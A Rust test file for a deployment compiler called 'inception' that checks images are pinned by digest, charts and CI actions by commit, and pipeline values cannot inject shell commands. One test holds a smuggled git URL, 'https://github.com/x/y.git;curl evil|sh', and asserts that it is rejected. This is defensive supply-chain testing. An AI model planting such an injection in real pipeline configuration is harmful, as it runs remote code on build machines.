//! Build once, promote by digest: no cloud tier of any environment runs an
//! image a registry could move (a tag) or a chart and values a branch could
//! move (a branch or tag revision).

use std::collections::BTreeMap;

use inception::model::Cluster;
use inception::pipeline::{self, Compiled};
use inception::source::SourceFile;
use inception::symmetry::{Syntax, leaves};

/// Path → text of a compiled tree.
type Outputs = std::collections::BTreeMap<String, String>;

/// Whether `digest` is `sha256:` and 64 lower-case hex digits.
fn is_sha256_digest(digest: &str) -> bool {
    digest
        .strip_prefix("sha256:")
        .is_some_and(|h| h.len() == 64 && h.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)))
}

use crate::support::environments;

fn compile(name: &str, text: &str) -> Compiled {
    match pipeline::compile_source(&SourceFile::new(name, text), "inception.kdl") {
        Ok(compiled) => compiled,
        Err(error) => panic!("{name} does not compile:\n{:?}", miette::Report::new(error)),
    }
}

/// `key path → values` of a rendered YAML file.
fn values(text: &str) -> BTreeMap<String, Vec<String>> {
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for leaf in leaves(Syntax::Data, text) {
        found.entry(leaf.path).or_default().push(leaf.value.trim_matches('"').to_owned());
    }
    found
}

/// Every way a cloud tier's generated files could run something mutable:
/// for each Application that deploys the generic chart, the image it ends
/// up with (the Application's `image.digest` parameter, else the values
/// files' digest) must be a digest, and the chart and values must be read
/// at a full commit.
fn mutable_references(outputs: &Outputs, tier: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let prefix = format!("deploy/argocd/{tier}/");
    for (path, text) in outputs.iter().filter(|(p, _)| p.starts_with(&prefix) && !p.ends_with("/root.yaml")) {
        let app = values(text);
        let one = |key: &str| app.get(key).and_then(|v| v.first()).cloned().unwrap_or_default();
        if one("kind") != "Application" || one("spec.source.path") != "deploy/charts/service" {
            continue;
        }
        let revision = one("spec.source.targetRevision");
        if !inception::model::release::is_commit(&revision) {
            problems.push(format!("{path}: chart and values at `{revision}`, not a commit"));
        }
        let mut digest = None;
        let names = app.get("spec.source.helm.parameters.name").cloned().unwrap_or_default();
        let given = app.get("spec.source.helm.parameters.value").cloned().unwrap_or_default();
        if let Some(i) = names.iter().position(|n| n == "image.digest") {
            digest = given.get(i).cloned();
        }
        for file in app.get("spec.source.helm.valueFiles").cloned().unwrap_or_default() {
            let generated = format!("deploy/{}", file.trim_start_matches("../../"));
            let Some(text) = outputs.get(&generated) else { continue };
            let data = values(text);
            if let Some(tag) = data.get("image.tag").and_then(|v| v.first()).filter(|t| !t.is_empty()) {
                problems.push(format!("{generated}: sets the mutable tag `{tag}` for tier {tier}"));
            }
            if digest.is_none() {
                digest = data.get("image.digest").and_then(|v| v.first()).cloned();
            }
        }
        match digest {
            Some(d) if is_sha256_digest(&d) => {}
            other => problems.push(format!("{path}: runs no image digest ({other:?})")),
        }
    }
    problems
}

#[test]
fn no_cloud_tier_of_any_environment_references_a_mutable_image_tag() {
    let mut cloud_tiers = 0;
    let mut problems = Vec::new();
    for (name, spec) in environments() {
        let compiled = compile(&name, &std::fs::read_to_string(&spec).expect("spec"));
        for tier in compiled.loaded.model.tiers.iter().filter(|t| t.cluster.value != Cluster::Minikube) {
            cloud_tiers += 1;
            problems.extend(mutable_references(&compiled.outputs(), &tier.name.value));
        }
    }
    assert!(cloud_tiers >= 4, "the reference spec has four cloud tiers; found {cloud_tiers}");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn the_check_catches_a_tag_a_branch_and_a_missing_digest() {
    let spec = std::fs::read_to_string(crate::support::root().join("environments/serenity/inception.kdl")).unwrap();
    let compiled = compile("serenity", &spec);
    assert!(mutable_references(&compiled.outputs(), "prod").is_empty());
    let mut outputs = compiled.outputs();
    let app = "deploy/argocd/prod/pricing.yaml".to_owned();
    let prod = compiled.loaded.model.tier("prod").unwrap();
    let text =
        outputs[&app].replace(&prod.revision.value, "main").replace("- name: image.digest\n", "- name: replicas\n");
    outputs.insert(app, text);
    let values = "deploy/values/api/values-prod.yaml".to_owned();
    outputs.insert(values, "image:\n  tag: v2.4.0\n".to_owned());
    let found = mutable_references(&outputs, "prod");
    assert!(found.iter().any(|p| p.contains("pricing.yaml: chart and values at `main`")), "{found:#?}");
    assert!(found.iter().any(|p| p.contains("pricing.yaml: runs no image digest")), "{found:#?}");
    assert!(found.iter().any(|p| p.contains("mutable tag `v2.4.0`")), "{found:#?}");
}

#[test]
fn a_spec_that_would_run_a_tag_or_a_branch_on_a_cloud_tier_does_not_compile() {
    let digest = format!("sha256:{}", "c".repeat(64));
    let commit = "d".repeat(40);
    let base = |revision: &str, image: &str, proxy: &str| {
        format!(
            "inception 1\nproject p {{\n    registry \"pacr1.azurecr.io\"\n}}\ntoolchain {{\n    base \"debian:12.5\"\n}}\n\
             tier prod {{\n    cluster aks\n    revision \"{revision}\"\n{image}}}\nservice api {{\n    build \"api\"\n    port 80\n}}\n\
             service proxy {{\n    image \"{proxy}\"\n    port 80\n}}\n"
        )
    };
    let good = base(&commit, &format!("    image api \"{digest}\"\n"), &format!("nginx:1.27.0@{digest}"));
    assert!(pipeline::compile_source(&SourceFile::new("good", good), "inception.kdl").is_ok());
    for (what, spec) in [
        ("a branch", base("main", &format!("    image api \"{digest}\"\n"), &format!("nginx:1.27.0@{digest}"))),
        ("no digest", base(&commit, "", &format!("nginx:1.27.0@{digest}"))),
        ("a tagged image", base(&commit, &format!("    image api \"{digest}\"\n"), "nginx:1.27.0")),
    ] {
        let error = pipeline::compile_source(&SourceFile::new(what, spec), "inception.kdl").err();
        let report = error.map(|e| format!("{:?}", miette::Report::new(e))).unwrap_or_default();
        assert!(report.contains("inception::model::mutable_release"), "{what}: {report}");
    }
}

/// The files that differ between two trees (relative paths), and the spec's
/// changed lines.
fn changed(before: &std::path::Path, after: &std::path::Path) -> Vec<String> {
    let mut paths: Vec<String> = crate::support::files(before);
    paths.extend(crate::support::files(after));
    paths.sort();
    paths.dedup();
    paths.into_iter().filter(|p| std::fs::read(before.join(p)).ok() != std::fs::read(after.join(p)).ok()).collect()
}

#[test]
fn promote_staging_prod_is_one_diff_that_symmetry_explains_by_identity_and_overrides_only() {
    use crate::support::{inception, text, with_reference_spec};
    let dir = with_reference_spec("promote");
    let compiled = inception(dir.path(), &["compile"]);
    assert_eq!(compiled.status.code(), Some(0), "{:?}", text(&compiled));
    let before = crate::support::TempDir::new("promote-before");
    for file in crate::support::files(dir.path()) {
        let target = before.path().join(&file);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(dir.path().join(&file), target).unwrap();
    }
    let spec_before = std::fs::read_to_string(dir.path().join("inception.kdl")).unwrap();
    let model = compile("serenity", &spec_before).loaded.model;
    let (staging, prod) = (model.tier("staging").unwrap(), model.tier("prod").unwrap());

    let promoted = inception(dir.path(), &["promote", "staging", "prod"]);
    let (stdout, stderr) = text(&promoted);
    assert_eq!(promoted.status.code(), Some(0), "{stdout}{stderr}");
    assert!(
        stdout.contains(&format!("prod: revision {} → {}", prod.revision.value, staging.revision.value)),
        "{stdout}"
    );

    // The spec: exactly prod's revision and image lines changed, to staging's values.
    let spec_after = std::fs::read_to_string(dir.path().join("inception.kdl")).unwrap();
    let diff: Vec<(&str, &str)> = spec_before.lines().zip(spec_after.lines()).filter(|(a, b)| a != b).collect();
    assert_eq!(spec_before.lines().count(), spec_after.lines().count());
    assert_eq!(diff.len(), 1 + 4, "the revision and four images: {diff:#?}");
    assert!(
        diff.iter()
            .all(|(a, _)| a.contains(&prod.revision.value) || prod.images.iter().any(|i| a.contains(&i.digest.value)))
    );
    assert!(diff.iter().all(
        |(_, b)| b.contains(&staging.revision.value) || staging.images.iter().any(|i| b.contains(&i.digest.value))
    ));

    // The artifacts: only prod's Applications that read the repository at the
    // tier's revision: the built services', the credentials release's,
    // Kafka's resources and the NetworkPolicies (and the lock).
    let files = changed(before.path(), dir.path());
    let expected: Vec<String> = [
        "deploy/argocd/prod/api.yaml",
        "deploy/argocd/prod/credentials.yaml",
        "deploy/argocd/prod/kafka.yaml",
        "deploy/argocd/prod/marketdata.yaml",
        "deploy/argocd/prod/network-policy.yaml",
        "deploy/argocd/prod/pricing.yaml",
        "deploy/argocd/prod/risk.yaml",
        "inception.kdl",
        "inception.lock",
    ]
    .map(str::to_owned)
    .to_vec();
    assert_eq!(files, expected);

    // symmetry: nothing but identity and the declared override.
    let symmetry = inception(dir.path(), &["symmetry", "staging", "prod", "--format", "json"]);
    assert_eq!(symmetry.status.code(), Some(0), "{:?}", text(&symmetry));
    let value: serde_json::Value = serde_json::from_slice(&symmetry.stdout).unwrap();
    let mut causes: Vec<String> = value["comparisons"][0]["differences"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["causes"][0]["cause"].as_str().unwrap_or("none").to_owned())
        .collect();
    causes.sort();
    causes.dedup();
    assert_eq!(causes, ["override", "tier-identity"]);

    // The tree is what compile writes, and promoting again changes nothing.
    assert_eq!(inception(dir.path(), &["check"]).status.code(), Some(0));
    let again = inception(dir.path(), &["promote", "staging", "prod"]);
    assert!(text(&again).0.contains("prod already runs this release"), "{:?}", text(&again));
}

#[test]
fn release_records_what_the_pipeline_built_and_refuses_what_it_cannot_pin() {
    use crate::support::{inception, text, with_reference_spec};
    let dir = with_reference_spec("release");
    assert_eq!(inception(dir.path(), &["compile"]).status.code(), Some(0));
    let commit = "e".repeat(40);
    let digest = |c: &str| format!("sha256:{}", c.repeat(64));
    let images: Vec<String> = [("api", "1"), ("marketdata", "2"), ("pricing", "3"), ("risk", "4")]
        .iter()
        .map(|(s, c)| format!("{s}={}", digest(c)))
        .collect();
    let mut args = vec!["release", "dev", "--revision", &commit];
    for image in &images {
        args.extend(["--image", image.as_str()]);
    }
    let out = inception(dir.path(), &args);
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    let spec = std::fs::read_to_string(dir.path().join("inception.kdl")).unwrap();
    assert!(
        spec.contains(&format!(
            "tier dev {{\n    cluster aks\n    revision \"{commit}\"\n    image marketdata \"{}\"",
            digest("2")
        )),
        "{spec}"
    );
    let app = std::fs::read_to_string(dir.path().join("deploy/argocd/dev/api.yaml")).unwrap();
    assert!(app.contains(&format!("targetRevision: {commit}")) && app.contains(&digest("1")), "{app}");
    for (bad, why) in [
        (vec!["release", "dev", "--revision", "main", "--image", &images[0]], "not a full commit id"),
        (vec!["release", "dev", "--revision", &commit, "--image", "api=latest"], "is not an image"),
        (vec!["release", "dev", "--revision", &commit, "--image", &images[0]], "no image for the built service"),
        (vec!["release", "local", "--revision", &commit, "--image", &images[0]], "runs on Minikube"),
    ] {
        let out = inception(dir.path(), &bad);
        assert_eq!(out.status.code(), Some(2), "{bad:?}");
        assert!(text(&out).1.contains(why), "{bad:?}: {:?}", text(&out));
    }
}

/// The generated CI files of the reference spec.
fn pipelines() -> Vec<(String, String)> {
    let spec = std::fs::read_to_string(crate::support::root().join("environments/serenity/inception.kdl")).unwrap();
    let compiled = compile("serenity", &spec);
    compiled
        .outputs()
        .into_iter()
        .filter(|(p, _)| {
            p.starts_with(".github/workflows/") || p.starts_with(".azure-pipelines/") || p == "azure-pipelines.yml"
        })
        .collect()
}

#[test]
fn every_action_is_pinned_by_commit_and_no_credential_is_stored() {
    let files = pipelines();
    let names: Vec<&str> = files.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        names,
        [
            ".azure-pipelines/build-image.yml",
            ".azure-pipelines/install-inception.yml",
            ".github/workflows/inception-main.yml",
            ".github/workflows/inception-pull-request.yml",
            ".github/workflows/inception-release-pr.yml",
            "azure-pipelines.yml",
        ]
    );
    let mut uses = 0;
    for (path, text) in &files {
        for line in text.lines() {
            if let Some(action) = line.trim().trim_start_matches("- ").strip_prefix("uses: ") {
                uses += 1;
                let (_, commit) = action.split_once('@').unwrap_or_else(|| panic!("{path}: `{action}` has no ref"));
                assert!(inception::model::release::is_commit(commit), "{path}: `{action}` is not pinned by commit");
            }
            assert!(!line.contains("secrets."), "{path}: a stored secret: {line}");
            assert!(!line.contains("ubuntu-latest"), "{path}: a moving runner image: {line}");
        }
    }
    assert!(uses >= 10, "the workflows use the pinned actions ({uses} uses)");
    let main = &files.iter().find(|(p, _)| p.ends_with("inception-main.yml")).unwrap().1;
    assert!(main.contains("id-token: write"), "OpenID Connect to Azure: {main}");
    assert!(main.contains("client-id: ${{ vars.AZURE_CLIENT_ID }}"), "{main}");
    let ado = &files.iter().find(|(p, _)| p == "azure-pipelines.yml").unwrap().1;
    assert!(ado.contains("azureSubscription: serenity-acr"), "the workload identity service connection: {ado}");
}

#[test]
fn pull_requests_build_without_pushing_and_main_pushes_and_releases_into_the_first_cloud_tier() {
    let files = pipelines();
    let get = |name: &str| files.iter().find(|(p, _)| p.ends_with(name)).map(|(_, t)| t.as_str()).unwrap();
    let pr = get("inception-pull-request.yml");
    // `--full`: a fresh clone has no verified-render record, but CI renders
    // whatever the runner keeps (README, "Checking without rendering").
    for command in ["inception check --full", "inception lint --strict"] {
        assert!(pr.contains(&format!("run: |\n        {command}\n")), "{command}: {pr}");
    }
    assert!(pr.contains("push: false") && !pr.contains("push: true"), "{pr}");
    assert!(pr.contains("- image: devcontainer\n"), "the dev container image is built too: {pr}");
    let main = get("inception-main.yml");
    for service in ["marketdata", "pricing", "risk", "api", "devcontainer"] {
        assert!(main.contains(&format!("id: image-{service}\n")), "{service}: {main}");
    }
    assert!(main.contains("inception release dev --revision \"$COMMIT\""), "{main}");
    assert!(main.contains("--image \"pricing=$DIGEST_PRICING\""), "{main}");
    assert!(main.contains("gh pr create --base main"), "{main}");
    // No expression is expanded inside a GitHub script: values reach scripts through env.
    let mut scripts = 0;
    for (path, text) in files.iter().filter(|(p, _)| p.starts_with(".github/")) {
        let mut script_indent: Option<usize> = None;
        for line in text.lines() {
            let indent = line.len() - line.trim_start().len();
            if script_indent.is_some_and(|key| indent <= key && !line.trim().is_empty()) {
                script_indent = None;
            }
            if script_indent.is_some() {
                scripts += 1;
                assert!(!line.contains("${{"), "{path}: an expression inside a script: {line}");
            }
            if line.trim_start().starts_with("run: |") {
                script_indent = Some(indent);
            }
        }
    }
    assert!(scripts > 20, "the scripts were read ({scripts} lines)");
    let ado = get("azure-pipelines.yml");
    assert!(ado.contains("condition: eq(variables['Build.Reason'], 'PullRequest')"), "{ado}");
    assert!(ado.contains("push: \"false\"") && ado.contains("push: \"true\""), "{ado}");
    assert!(ado.contains("inception release dev"), "{ado}");
    assert!(ado.contains("inception check --full\n"), "CI renders to check: {ado}");
}

#[test]
fn a_pipeline_value_that_would_land_unquoted_in_a_script_is_refused() {
    let spec = std::fs::read_to_string(crate::support::root().join("environments/serenity/inception.kdl")).unwrap();
    for (from, to, expected) in [
        (
            "inception \"https://github.com/cloudwall/inception.git\"",
            "inception \"https://github.com/x/y.git;curl evil|sh\"",
            "is not an https:// git URL",
        ),
        ("commit=\"5d1e0f4a7c3b2a19e8d7c6b5a4f3e2d1c0b9a8f7\"", "commit=\"main\"", "is not a full commit id"),
        ("service-connection serenity-acr", "service-connection \"serenity acr\"", "is not letters, digits"),
        ("    service-connection serenity-acr\n", "", "`pipeline` has no `service-connection`"),
        ("registry \"cloudwall.azurecr.io\"", "registry \"ghcr.io\"", "push to an Azure Container Registry"),
    ] {
        assert!(spec.contains(from), "{from}");
        let bad = spec.replacen(from, to, 1);
        let error = pipeline::compile_source(&SourceFile::new("bad", bad), "inception.kdl").err();
        let report = error.map(|e| format!("{:?}", miette::Report::new(e))).unwrap_or_default();
        assert!(report.contains(expected), "{to}: {report}");
    }
}
